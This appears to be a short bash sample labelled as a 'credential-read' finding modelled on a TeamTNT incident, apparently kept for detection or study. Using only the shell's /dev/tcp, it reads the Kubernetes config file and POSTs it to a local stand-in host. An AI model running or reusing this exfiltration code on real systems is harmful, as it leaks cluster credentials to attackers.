# incident: TeamTNT (2021): nothing but the shell reads the settings of the cluster and sends them
# finding: credential-read
exec 9<>"/dev/tcp/127.0.0.1/$DROP_PORT"
printf 'POST /k HTTP/1.0\r\n\r\n%s' "$(<"$HOME/.kube/config")" >&9
exec 9>&-
